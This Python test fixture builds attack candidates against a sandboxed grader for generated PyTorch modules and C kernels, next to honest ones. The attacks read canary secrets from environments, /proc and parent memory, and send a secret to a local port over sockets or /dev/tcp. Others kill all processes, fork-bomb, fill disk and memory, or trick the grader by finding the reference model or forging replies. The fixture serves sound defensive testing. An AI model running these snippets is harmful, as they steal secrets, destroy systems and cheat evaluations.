"""Candidates that attack their surroundings, in both forms, and honest ones to put between them.

An attack that could tell what it read answers rightly only if it read it, so that being accepted
is the leak. One whose harm can be seen from outside answers rightly if it lives that long: then
nobody is blamed but by what it left. ``{mark}`` is the name of every process a candidate becomes.
"""

from dataclasses import asdict, dataclass
from typing import Literal

ROWS, COLUMNS = 8, 32
Ending = Literal["accepted", "rejected", "any"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """A candidate's text, what must become of it, and how long one call of it may take."""

    name: str
    form: Literal["module", "plan"]
    text: str
    ending: Ending
    call_s: float = 60.0


REFERENCE = f"""
import torch

class Model(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.scale = torch.nn.Parameter(torch.ones({COLUMNS}))
        self.is_the_reference = "the_text_of_the_reference"

    def forward(self, x):
        return torch.softmax(x, -1) * self.scale

def get_inputs():
    return [torch.rand({ROWS}, {COLUMNS})]
"""

MODULE = f"""
import contextlib, ctypes, gc, glob, inspect, json, os, re, resource, signal, socket, struct, sys, threading, time
import torch

ctypes.CDLL(None).prctl(15, b"{{mark}}")
SECRET, MARK, PARENT, PORT = "{{secret}}", "{{mark}}", {{parent}}, {{port}}
FOLDER, SCRATCH = "{{folder}}", "{{scratch}}"
FILES = {{files}}

def trying(*actions):
    for action in actions:
        with contextlib.suppress(Exception):
            action()

def say(body):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    os.set_blocking(3, True)
    os.write(3, struct.pack(">I", len(body)) + body)

def daemon(work):
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            os.setsid()
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGCONT):
                signal.signal(number, signal.SIG_IGN)
            if os.fork() == 0:
                os.setsid()
                while True:
                    work()
            os._exit(0)

class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.scale = torch.nn.Parameter(torch.ones({COLUMNS}))

    def right(self, x):
        return torch.softmax(x, -1) * self.scale

    def if_found(self, found, x):
        return self.right(x) if found else torch.zeros_like(x)

    def forward(self, x):
{{body}}
"""

HONEST = {
    "as the reference": "return torch.softmax(x, -1) * self.scale",
    "spelt out": "e = (x - x.amax(-1, True)).exp(); return (e / e.sum(-1, True) * self.scale).contiguous()",
    "in double": "return (torch.softmax(x.double(), -1) * self.scale.double()).float().contiguous()",
}

# What would be read, if it could be.
READS = {
    "canary in the environment": "SECRET in str(dict(os.environ))",
    "canary in files": "any(_read(path) for path in FILES)",
    "folders of the files": "any(os.path.basename(path) in os.listdir(os.path.dirname(path)) for path in FILES)",
    "environments of all processes": "any(_read(path) for path in glob.glob('/proc/[0-9]*/environ'))",
    "command line of the parent": "_bytes(f'/proc/{PARENT}/cmdline')",
    "memory of the parent": "_bytes(f'/proc/{PARENT}/maps') or _bytes(f'/proc/{PARENT}/mem')",
    "descriptors of the parent": "os.listdir(f'/proc/{PARENT}/fd')",
    "shared memory folder": "os.listdir('/dev/shm')",
    "objects of the reference": (
        "any(hasattr(each, 'is_the_reference') for each in gc.get_objects()"
        " if isinstance(each, torch.nn.Module) and type(each) is not ModelNew)"
    ),
    "modules of the reference": (
        "any('_kernelwright_reference' in name or 'get_inputs' in getattr(each, '__dict__', {})"
        " for name, each in list(sys.modules.items()))"
    ),
    "frames above": (
        "any(isinstance(value, torch.nn.Module) and not isinstance(value, ModelNew)"
        " for each in inspect.stack() for value in each.frame.f_locals.values())"
    ),
    "its own memory for the reference": "_own_memory_holds(rb'the_text_of_the_refer[e]nce')",
    "scratch folders of others": (
        "[each for each in glob.glob(SCRATCH + '/kernelwright-*') if each != os.path.dirname(os.getcwd())]"
    ),
    "a traced parent": "ctypes.CDLL(None).ptrace(0x4206, PARENT, None, None) == 0",
}
READ_TOOLS = """
        def _bytes(path):
            with contextlib.suppress(OSError), open(path, 'rb') as file:
                return file.read(1 << 20)
            return b''
        def _read(path):
            return SECRET.encode() in _bytes(path)
        def _own_memory_holds(pattern):
            for line in open('/proc/self/maps'):
                span, rights, *_ = line.split()
                if 'w' not in rights or 'vvar' in line:
                    continue
                first, last = (int(each, 16) for each in span.split('-'))
                with contextlib.suppress(OSError), open('/proc/self/mem', 'rb', buffering=0) as memory:
                    memory.seek(first)
                    if text.replace('_', '\\x5f', 1).encode() in memory.read(min(last - first, 1 << 24)):
                        return True
            return False
        found = False
        with contextlib.suppress(Exception):
            found = bool({expression})
        return self.if_found(found, x)
"""

# What would be left behind or harmed, if it could be.
HARMS: dict[str, tuple[str, Ending]] = {
    "exits as if all were well": ("os._exit(0)", "rejected"),
    "raises SystemExit": ("sys.exit(0)", "rejected"),
    "crashes": ("ctypes.string_at(0)", "rejected"),
    "recurses without end": (
        "sys.setrecursionlimit(10**9)\ndef down(n): return down(n + 1) + 1\nreturn down(0)",
        "rejected",
    ),
    "bombs with processes": (
        "while True:\n    with contextlib.suppress(OSError): os.fork()",
        "rejected",
    ),
    "bombs with threads": (
        "while True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        "rejected",
    ),
    "fills memory": ("held = []\nwhile True: held.append(bytearray(b'x') * (16 << 20))", "rejected"),
    "fills the disk": (
        "for number in range(10**6):\n    with open(f'f{number}', 'wb') as file: file.write(b'x' * (1 << 20))",
        "rejected",
    ),
    "fills files in memory": (
        "held = []\nwhile True:\n    held.append(os.memfd_create(MARK)); os.write(held[-1], b'x' * (1 << 20))",
        "rejected",
    ),
    "floods its output": ("while True: os.write(2, b'\\x1b[2J' * 4096)", "rejected"),
    "kills everything": ("trying(lambda: os.kill(-1, 9)); return self.right(x)", "any"),
    "kills the parent": (
        (
            "trying(*(lambda n=n, p=p: os.kill(p, n) for p in (PARENT, os.getppid(), -PARENT) if p > 1"
            " for n in (19, 15, 9)))\nreturn self.right(x)"
        ),
        "any",
    ),
    "leaves a daemon": ("daemon(lambda: time.sleep(0.05)); return self.right(x)", "any"),
    "leaves a busy daemon that writes": (
        "daemon(lambda: trying(lambda: open(FOLDER + '/late', 'w').close())); return self.right(x)",
        "any",
    ),
    "leaves a stopped process": (
        (
            "with contextlib.suppress(OSError):\n    pid = os.fork()\n    if pid == 0:\n"
            "        while True: time.sleep(1)\n    os.kill(pid, signal.SIGSTOP)\nreturn self.right(x)"
        ),
        "any",
    ),
    "daemon threads and exit handlers": (
        (
            "import atexit\nwrite = lambda: trying(lambda: open(FOLDER + '/late', 'w').close())\n"
            "atexit.register(write)\nthreading.Thread(target=lambda: "
            "[(write(), time.sleep(0.01)) for _ in range(1000)], daemon=True).start()\n"
            "return self.right(x)"
        ),
        "any",
    ),
    "connects": (
        (
            "trying(lambda: socket.create_connection(('127.0.0.1', PORT), timeout=1).send(SECRET.encode()),"
            " lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT)),"
            " lambda: socket.socket(socket.AF_UNIX).connect(FOLDER + '/../socket'),"
            " lambda: os.system(f'exec 5<>/dev/tcp/127.0.0.1/{PORT}'))\nreturn self.right(x)"
        ),
        "any",
    ),
    "listens": (
        "trying(lambda: socket.create_server(('0.0.0.0', PORT + 1)).accept()); return self.right(x)",
        "any",
    ),
    "writes where it may not": (
        (
            "trying(*(lambda p=p: open(p, 'w').write('dead') for p in (*FILES, FOLDER + '/made',"
            " os.path.dirname(torch.__file__) + '/' + MARK, '/dev/shm/' + MARK, '/tmp/' + MARK)),"
            " *(lambda p=p: os.truncate(p, 0) for p in FILES), *(lambda p=p: os.chmod(p, 0o777) for p in FILES),"
            " *(lambda p=p: os.unlink(p) for p in FILES))\nreturn self.right(x)"
        ),
        "any",
    ),
    "plays with links": (
        (
            "trying(lambda: os.symlink(FOLDER, 'out'), lambda: open('out/made', 'w').close(),"
            " *(lambda p=p, n=n: os.symlink(p, f'link{n}') for n, p in enumerate(FILES)),"
            " lambda: open('link0', 'w').write('dead'), lambda: os.link(FILES[0], 'hard'),"
            " lambda: os.symlink('/', 'root'), lambda: os.rename(os.getcwd(), FOLDER + '/moved'))\nreturn self.right(x)"
        ),
        "any",
    ),
    "nests folders": (
        (
            "here = os.getcwd()\n"
            "for _ in range(300): os.mkdir('folder'); os.chdir('folder')\n"
            "os.chdir(here); os.mkdir('closed', 0); return self.right(x)"
        ),
        "any",
    ),
    "makes shared memory": (
        (
            "trying(lambda: ctypes.CDLL(None).shmget(int(MARK[3:]), 4096, 0o1666),"
            " lambda: open('/dev/shm/' + MARK, 'w').close())\nreturn self.right(x)"
        ),
        "any",
    ),
    "ignores every signal and hangs": (
        ("for number in range(1, 65):\n    trying(lambda: signal.signal(number, signal.SIG_IGN))\nwhile True: pass"),
        "rejected",
    ),
    "sleeps for ever": ("while True: time.sleep(1000)", "rejected"),
    "closes its channel": ("os.close(3); return self.right(x)", "rejected"),
    "exhausts descriptors": (
        "held = []\nwhile True: held.append(os.open('/dev/null', os.O_RDONLY))",
        "rejected",
    ),
    "sends forged replies": (
        "say({'leaves': [], 'is_copied': True}); say({}); say(b'not JSON'); return self.right(x)",
        "rejected",
    ),
    "sends a reply without end": ("say({'leaves': []})\nwhile True: os.write(3, b'\\xff')", "rejected"),
    "trickles a reply": (
        (
            "os.set_blocking(3, True); os.write(3, struct.pack('>I', 1 << 20))\n"
            "while True: os.write(3, b' '); time.sleep(0.01)"
        ),
        "rejected",
    ),
    "harms all shared mappings": (
        (
            "server = next(each for each in gc.get_objects() if type(each).__name__ == '_Server')\n"
            "for memory in server._blocks.values():\n"
            "    memory[:] = b'\\xaa' * len(memory)\n"
            "return self.right(x)"
        ),
        "rejected",
    ),
    "changes its priority and limits": (
        (
            "trying(lambda: os.nice(-20), lambda: os.nice(19), lambda: os.sched_setscheduler(0, 1, os.sched_param(99)),"
            " lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)),"
            " lambda: open('/proc/self/oom_score_adj', 'w').write('-1000'),"
            " lambda: os.sched_setaffinity(PARENT, [0]))\nreturn self.right(x)"
        ),
        "any",
    ),
    "zeros": ("return torch.zeros_like(x)", "rejected"),
}
SLOW = (
    *("ignores every signal and hangs", "sleeps for ever", "trickles a reply", "bombs with processes", "never returns"),
    *("sends forged replies", "sends a reply without end"),
)
_FEW_SECONDS = 3.0

PLAN = """
def forward(x, *, p):
    B, N = x.shape
    out = empty((B, N), dtype=x.dtype)
    launch("scaled_softmax", x, p.scale, out, N, threads=(B,), group=(1,))
    return out
"""
KERNEL = """
#include <cmath>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <unistd.h>

static void right(const float* x, const float* w, float* out, int64_t n) {
  float top = x[0], sum = 0;
  for (int64_t i = 1; i < n; ++i) top = (x[i] > top || x[i] != x[i]) ? x[i] : top;
  for (int64_t i = 0; i < n; ++i) sum += out[i] = std::exp(x[i] - top);
  for (int64_t i = 0; i < n; ++i) out[i] = out[i] / sum * w[i];
}

extern "C" void scaled_softmax(const float* x, const float* w, float* out, int64_t n, int64_t begin, int64_t end) {
  prctl(PR_SET_NAME, "@mark");
  for (int64_t b = begin; b < end; ++b) {
    const float* row = x + b * n;
    float* o = out + b * n;
    @body
    right(row, w, o, n);
  }
}
"""
KERNELS: dict[str, tuple[str, Ending]] = {
    "honest": ("", "accepted"),
    "honest with a local copy": ("float copy[64]; std::memcpy(copy, row, n * sizeof(float)); row = copy;", "accepted"),
    "forks without end": ("for (int i = 0; i < 1000; ++i) fork();", "any"),
    "kills all": ("kill(-1, SIGKILL); kill(@parent, SIGKILL); kill(getppid(), SIGKILL);", "any"),
    "traces the parent": ("if (ptrace(PTRACE_SEIZE, @parent, 0, 0) != 0) { o[0] = 0; continue; }", "rejected"),
    "connects": (
        (
            "sockaddr_in to{}; to.sin_family = AF_INET; to.sin_port = htons(@port);"
            "to.sin_addr.s_addr = htonl(0x7f000001); int s = socket(AF_INET, SOCK_STREAM, 0);"
            'if (s >= 0 && connect(s, (sockaddr*)&to, sizeof to) == 0) { (void)!write(s, "x", 1); }'
        ),
        "any",
    ),
    "writes a file": (
        'if (FILE* f = std::fopen("@folder/made", "w")) { std::fputs("made", f); std::fclose(f); }',
        "any",
    ),
    "starts a program": ('(void)!std::system("touch @folder/made; sleep 100 &");', "any"),
    "exits well": ("_exit(0);", "rejected"),
    "crashes": ("*reinterpret_cast<volatile float*>(8) = 1;", "rejected"),
    "writes all over its memory": ("for (int64_t i = 0; i < (1 << 22); ++i) o[i] = 1;", "rejected"),
    "closes everything": ("for (int fd = 0; fd < 1024; ++fd) close(fd);", "rejected"),
    "never returns": ("volatile bool on = true; while (on) {}", "rejected"),
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Facts:
    """Where things are that no candidate shall reach; told to each, so that none fails for want of knowing."""

    mark: str
    secret: str
    parent: int
    port: int
    folder: str
    scratch: str
    files: tuple[str, ...]


def cases(facts: Facts) -> tuple[Case, ...]:
    """Return every case."""
    mark, folder, parent, port = facts.mark, facts.folder, facts.parent, facts.port

    def module(body: str) -> str:
        return MODULE.format(**asdict(facts) | {"files": list(facts.files)}, body=body)

    def kernel(body: str) -> str:
        text = KERNEL.replace("@body", body).replace("@mark", mark).replace("@folder", folder)
        return text.replace("@parent", str(parent)).replace("@port", str(port))

    def call_s(name: str) -> float:
        return _FEW_SECONDS if name in SLOW else 60.0

    found = [
        Case(name=name, form="module", text=module(_lines(body)), ending="accepted") for name, body in HONEST.items()
    ]
    found += [
        Case(
            name=f"reads {name}",
            form="module",
            text=module(READ_TOOLS.replace("{expression}", expression)),
            ending="rejected",
        )
        for name, expression in READS.items()
    ]
    found += [
        Case(
            name=name,
            form="module",
            text=module(_lines(body)),
            ending=ending,
            call_s=call_s(name),
        )
        for name, (body, ending) in HARMS.items()
    ]
    found += [
        Case(name=f"kernel: {name}", form="plan", text=kernel(body), ending=ending, call_s=call_s(name))
        for name, (body, ending) in KERNELS.items()
    ]
    return tuple(found)


def _lines(body: str) -> str:
    return "\n".join(f"        {line}" for line in body.splitlines())
